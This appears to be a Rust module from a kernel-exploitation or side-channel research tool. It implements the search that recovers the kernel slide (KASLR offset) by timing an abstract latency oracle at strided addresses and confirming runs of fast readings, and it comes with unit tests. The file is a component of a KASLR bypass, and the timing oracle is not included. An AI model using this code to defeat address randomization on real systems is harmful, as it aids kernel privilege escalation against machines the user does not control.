//! Statistical search for the kernel slide
//!
//! The engine walks candidate offsets from zero, takes a window of oracle
//! readings at every `base + offset`, and classifies the offset as a hit
//! when the trimmed mean of the window is at or below the latency
//! threshold. A slide is confirmed once enough consecutive offsets hit to
//! span the whole kernel image.
pub mod stats;

use std::collections::TryReserveError;

use crate::image::Segment;
use crate::uarch::oracle::LatencyOracle;

pub use stats::trimmed_mean;

#[derive(thiserror::Error, Debug)]
pub enum Error {
    #[error("Invalid search configuration: {0}")]
    ConfigError(String),

    #[error("Failed to allocate timings buffer of {0} samples: {1}")]
    AllocationError(usize, #[source] TryReserveError),
}

/// How many consecutive hits confirm a slide
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum RunLength {
    /// As many strides as it takes to cover the image
    #[default]
    SpanImage,
    Fixed(u64),
}

impl RunLength {
    pub fn required(&self, image_size: u64, stride: u64) -> u64 {
        match *self {
            RunLength::SpanImage => image_size.div_ceil(stride).max(1),
            RunLength::Fixed(n) => n,
        }
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SearchConfig {
    /// Oracle readings per offset, a multiple of 8
    pub samples: usize,
    /// Offsets are probed in `[0, max_offset)`
    pub max_offset: u64,
    pub stride: u64,
    /// Highest trimmed mean, in cycles, still taken as resident memory
    pub threshold: i64,
    pub run_length: RunLength,
}

impl Default for SearchConfig {
    fn default() -> Self {
        SearchConfig {
            samples: 16,
            max_offset: 0x2000_0000,
            stride: 0x10_0000,
            threshold: 50,
            run_length: RunLength::SpanImage,
        }
    }
}

impl SearchConfig {
    pub fn validate(&self) -> Result<(), Error> {
        if self.samples == 0 || self.samples % 8 != 0 {
            return Err(Error::ConfigError(format!(
                "sample count {} is not a positive multiple of 8", self.samples
            )));
        }
        if self.stride == 0 {
            return Err(Error::ConfigError("stride must be non-zero".into()));
        }
        if self.max_offset == 0 {
            return Err(Error::ConfigError("offset range is empty".into()));
        }
        if self.run_length == RunLength::Fixed(0) {
            return Err(Error::ConfigError("run length must be at least 1".into()));
        }
        Ok(())
    }

    /// Number of offsets a full sweep probes
    pub fn iterations(&self) -> u64 {
        self.max_offset.div_ceil(self.stride)
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Classification {
    Hit,
    Miss,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct SlideCandidate {
    pub offset: u64,
    pub trimmed_mean: i64,
    pub classification: Classification,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SlideResult {
    Confirmed { slide: u64 },
    NotFound,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SearchState {
    Scanning,
    Confirmed(u64),
    Exhausted,
}

/// Consecutive-hit bookkeeping, fed candidates in increasing offset order
#[derive(Clone, Debug)]
pub struct RunTracker {
    stride: u64,
    required: u64,
    hits: u64,
}

impl RunTracker {
    pub fn new(stride: u64, required: u64) -> RunTracker {
        RunTracker { stride, required, hits: 0 }
    }

    pub fn hits(&self) -> u64 {
        self.hits
    }

    pub fn required(&self) -> u64 {
        self.required
    }

    /// Returns the first offset of the run once it is long enough
    ///
    /// A run that would start below offset zero cannot come from offsets
    /// fed in stride order, and is never reported.
    pub fn observe(&mut self, offset: u64, class: Classification) -> Option<u64> {
        match class {
            Classification::Miss => {
                self.hits = 0;
                None
            }
            Classification::Hit => {
                self.hits = self.hits.saturating_add(1);
                if self.hits < self.required {
                    return None;
                }
                let span = self.stride.checked_mul(self.hits - 1)?;
                offset.checked_sub(span)
            }
        }
    }
}

/// Receives every probed window, raw and then classified
pub trait SearchObserver {
    fn on_window(&mut self, _offset: u64, _samples: &[i64]) {}
    fn on_candidate(&mut self, _candidate: &SlideCandidate) {}
}

impl SearchObserver for () {}

pub struct SlideSearch<O: LatencyOracle> {
    config: SearchConfig,
    oracle: O,
    base: u64,
    window: Vec<i64>,
    tracker: RunTracker,
    next_offset: u64,
    state: SearchState,
}

impl<O: LatencyOracle> SlideSearch<O> {
    pub fn new(config: SearchConfig, oracle: O, segment: &Segment) -> Result<Self, Error> {
        config.validate()?;

        let mut window = Vec::new();
        window.try_reserve_exact(config.samples)
            .map_err(|e| Error::AllocationError(config.samples, e))?;

        let required = config.run_length.required(segment.size, config.stride);
        let tracker = RunTracker::new(config.stride, required);

        Ok(SlideSearch {
            config,
            oracle,
            base: segment.base,
            window,
            tracker,
            next_offset: 0,
            state: SearchState::Scanning,
        })
    }

    pub fn state(&self) -> SearchState {
        self.state
    }

    pub fn required_run(&self) -> u64 {
        self.tracker.required()
    }

    /// Probe the next offset, returning the state reached
    pub fn step(&mut self, observer: &mut impl SearchObserver) -> SearchState {
        if self.state != SearchState::Scanning {
            return self.state;
        }
        if self.next_offset >= self.config.max_offset {
            self.state = SearchState::Exhausted;
            return self.state;
        }

        let offset = self.next_offset;
        let address = self.base.wrapping_add(offset);

        self.window.clear();
        for _ in 0..self.config.samples {
            // less likely to be preempted with a fresh timeslice
            std::thread::yield_now();
            self.window.push(self.oracle.measure(address));
        }
        observer.on_window(offset, &self.window);

        self.window.sort_unstable();
        let trimmed_mean = trimmed_mean(&self.window);
        let classification = if trimmed_mean <= self.config.threshold {
            Classification::Hit
        } else {
            Classification::Miss
        };
        observer.on_candidate(&SlideCandidate { offset, trimmed_mean, classification });

        if let Some(slide) = self.tracker.observe(offset, classification) {
            self.state = SearchState::Confirmed(slide);
            return self.state;
        }

        self.next_offset = match offset.checked_add(self.config.stride) {
            Some(next) => next,
            None => self.config.max_offset,
        };
        if self.next_offset >= self.config.max_offset {
            self.state = SearchState::Exhausted;
        }
        self.state
    }

    pub fn run(&mut self, observer: &mut impl SearchObserver) -> SlideResult {
        loop {
            match self.step(observer) {
                SearchState::Scanning => continue,
                SearchState::Confirmed(slide) => return SlideResult::Confirmed { slide },
                SearchState::Exhausted => return SlideResult::NotFound,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HIT: i64 = 20;
    const MISS: i64 = 200;
    const BASE: u64 = 0xffffff8000200000;

    fn segment(size: u64) -> Segment {
        Segment { name: "__TEXT".into(), base: BASE, size }
    }

    fn config(max_offset: u64, stride: u64) -> SearchConfig {
        SearchConfig { max_offset, stride, ..SearchConfig::default() }
    }

    #[derive(Default)]
    struct Recorder {
        windows: Vec<(u64, usize)>,
        candidates: Vec<SlideCandidate>,
    }

    impl SearchObserver for Recorder {
        fn on_window(&mut self, offset: u64, samples: &[i64]) {
            self.windows.push((offset, samples.len()));
        }
        fn on_candidate(&mut self, candidate: &SlideCandidate) {
            self.candidates.push(*candidate);
        }
    }

    #[test]
    fn run_length_formula() {
        assert_eq!(RunLength::SpanImage.required(0x500000, 0x100000), 5);
        assert_eq!(RunLength::SpanImage.required(0x500001, 0x100000), 6);
        assert_eq!(RunLength::SpanImage.required(0, 0x100000), 1);
        assert_eq!(RunLength::Fixed(3).required(0x500000, 0x100000), 3);
    }

    #[test]
    fn config_validation() {
        assert!(SearchConfig::default().validate().is_ok());
        for bad in [
            SearchConfig { samples: 0, ..SearchConfig::default() },
            SearchConfig { samples: 12, ..SearchConfig::default() },
            SearchConfig { stride: 0, ..SearchConfig::default() },
            SearchConfig { max_offset: 0, ..SearchConfig::default() },
            SearchConfig { run_length: RunLength::Fixed(0), ..SearchConfig::default() },
        ] {
            assert!(matches!(bad.validate(), Err(Error::ConfigError(_))));
        }
    }

    #[test]
    fn new_rejects_bad_config() {
        let cfg = SearchConfig { samples: 7, ..SearchConfig::default() };
        let res = SlideSearch::new(cfg, |_: u64| 0i64, &segment(0x1000));
        assert!(res.is_err());
    }

    #[test]
    fn miss_resets_counter() {
        let mut tracker = RunTracker::new(0x100000, 5);
        for i in 0..4 {
            assert_eq!(tracker.observe(i * 0x100000, Classification::Hit), None);
        }
        assert_eq!(tracker.hits(), 4);
        assert_eq!(tracker.observe(4 * 0x100000, Classification::Miss), None);
        assert_eq!(tracker.hits(), 0);
        assert_eq!(tracker.observe(5 * 0x100000, Classification::Hit), None);
        assert_eq!(tracker.hits(), 1);
    }

    #[test]
    fn run_reports_first_offset() {
        let mut tracker = RunTracker::new(0x100000, 3);
        assert_eq!(tracker.observe(0x700000, Classification::Hit), None);
        assert_eq!(tracker.observe(0x800000, Classification::Hit), None);
        assert_eq!(tracker.observe(0x900000, Classification::Hit), Some(0x700000));
    }

    #[test]
    fn out_of_order_offsets_do_not_underflow() {
        let mut tracker = RunTracker::new(0x100000, 2);
        assert_eq!(tracker.observe(0, Classification::Hit), None);
        assert_eq!(tracker.observe(0, Classification::Hit), None);
        assert_eq!(tracker.hits(), 2);

        let mut tracker = RunTracker::new(u64::MAX, 3);
        for offset in [0x300000, 0x200000, 0x100000] {
            assert_eq!(tracker.observe(offset, Classification::Hit), None);
        }

        // a miss still clears whatever came before
        assert_eq!(tracker.observe(0x400000, Classification::Miss), None);
        assert_eq!(tracker.hits(), 0);
    }

    #[test]
    fn slide_zero_is_found() -> anyhow::Result<()> {
        let mut search = SlideSearch::new(config(0x2000_0000, 0x100000), |_: u64| HIT, &segment(0x500000))?;
        assert_eq!(search.run(&mut ()), SlideResult::Confirmed { slide: 0 });
        assert_eq!(search.state(), SearchState::Confirmed(0));
        Ok(())
    }

    #[test]
    fn resident_band_resolves_slide() -> anyhow::Result<()> {
        // five resident strides starting at 0x200000
        let oracle = |addr: u64| {
            let off = addr - BASE;
            if (0x200000..0x700000).contains(&off) { HIT } else { MISS }
        };
        let mut recorder = Recorder::default();
        let mut search = SlideSearch::new(config(0x2000_0000, 0x100000), oracle, &segment(0x500000))?;
        assert_eq!(search.required_run(), 5);
        assert_eq!(search.run(&mut recorder), SlideResult::Confirmed { slide: 0x200000 });

        // confirmed at 0x600000, nothing past it is probed
        assert_eq!(recorder.candidates.len(), 7);
        assert_eq!(recorder.candidates.last().map(|c| c.offset), Some(0x600000));
        Ok(())
    }

    #[test]
    fn short_resident_band_is_not_enough() -> anyhow::Result<()> {
        let oracle = |addr: u64| {
            let off = addr - BASE;
            if (0x200000..0x600000).contains(&off) { HIT } else { MISS }
        };
        let mut search = SlideSearch::new(config(0x2000_0000, 0x100000), oracle, &segment(0x500000))?;
        assert_eq!(search.run(&mut ()), SlideResult::NotFound);
        Ok(())
    }

    #[test]
    fn alternating_never_confirms() -> anyhow::Result<()> {
        let mut calls = 0u64;
        let oracle = |addr: u64| {
            calls += 1;
            if ((addr - BASE) / 0x100000) % 2 == 0 { HIT } else { MISS }
        };
        let cfg = config(0x2000_0000, 0x100000);
        let iterations = cfg.iterations();
        let mut recorder = Recorder::default();
        let mut search = SlideSearch::new(cfg, oracle, &segment(0x500000))?;
        assert_eq!(search.run(&mut recorder), SlideResult::NotFound);
        assert_eq!(search.state(), SearchState::Exhausted);
        drop(search);

        assert_eq!(iterations, 0x200);
        assert_eq!(calls, iterations * 16);
        assert_eq!(recorder.windows.len() as u64, iterations);
        assert!(recorder.windows.iter().all(|&(_, n)| n == 16));
        assert!(recorder.candidates.windows(2).all(|w| w[0].offset < w[1].offset));
        assert!(recorder.candidates.iter().all(|c| c.offset < 0x2000_0000));
        Ok(())
    }

    #[test]
    fn exhausted_search_stays_exhausted() -> anyhow::Result<()> {
        let mut search = SlideSearch::new(config(0x400000, 0x100000), |_: u64| MISS, &segment(0x500000))?;
        assert_eq!(search.run(&mut ()), SlideResult::NotFound);
        assert_eq!(search.step(&mut ()), SearchState::Exhausted);
        Ok(())
    }

    #[test]
    fn run_cut_short_by_range_end() -> anyhow::Result<()> {
        // hits begin too late for five consecutive offsets to fit
        let oracle = |addr: u64| if addr - BASE >= 0x1000000 - 0x300000 { HIT } else { MISS };
        let mut search = SlideSearch::new(config(0x1000000, 0x100000), oracle, &segment(0x500000))?;
        assert_eq!(search.run(&mut ()), SlideResult::NotFound);
        Ok(())
    }

    #[test]
    fn outliers_do_not_flip_hits() -> anyhow::Result<()> {
        let mut n = 0u64;
        // three of every sixteen readings are preempted
        let oracle = |_: u64| {
            n += 1;
            match n % 16 { 1 | 5 | 9 => 100_000, _ => HIT }
        };
        let mut search = SlideSearch::new(config(0x2000_0000, 0x100000), oracle, &segment(0x300000))?;
        assert_eq!(search.run(&mut ()), SlideResult::Confirmed { slide: 0 });
        Ok(())
    }

    #[test]
    fn threshold_is_inclusive() -> anyhow::Result<()> {
        let cfg = SearchConfig {
            threshold: 50,
            run_length: RunLength::Fixed(1),
            ..SearchConfig::default()
        };
        let mut search = SlideSearch::new(cfg, |_: u64| 50i64, &segment(0x500000))?;
        assert_eq!(search.run(&mut ()), SlideResult::Confirmed { slide: 0 });
        Ok(())
    }
}
